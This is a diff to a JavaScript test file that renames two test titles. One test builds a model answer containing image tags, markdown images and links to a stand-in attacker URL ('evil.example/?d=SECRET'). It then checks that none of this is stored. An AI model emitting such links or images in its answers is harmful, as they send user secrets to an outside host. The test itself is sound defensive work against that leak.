@@ -72,7 +72,7 @@ it.each(finishes)("sends a draft of fewer than 150 words to review: $finish", as
   expect(queue.body.data.items).toMatchObject([{ run: { id }, heldBack: "gate_failed", imageProblem: null }]);
 });
 
-it("keeps nothing of a model's answer that would carry data away", async () => {
+it("stores nothing of a model's answer that would leak data", async () => {
   const evil = "https://evil.example/?d=SECRET";
   const told = `<img src="${evil}"> ![x](${evil}) [here](${evil}) ${evil} `;
   const hostile = {
@@ -99,7 +99,7 @@ it("keeps nothing of a model's answer that would carry data away", async () => {
   expect(JSON.stringify(kept.body)).not.toMatch(/SECRET/);
 });
 
-it("asks no model the same again that gave no usable answer", async () => {
+it("does not repeat a request that got no usable answer", async () => {
   const { ai, asked } = scriptedModel(({ kind }) =>
     kind === "draft" ? { choices: [{ message: { content: "{" }, finish_reason: "length" }] } : undefined,
   );
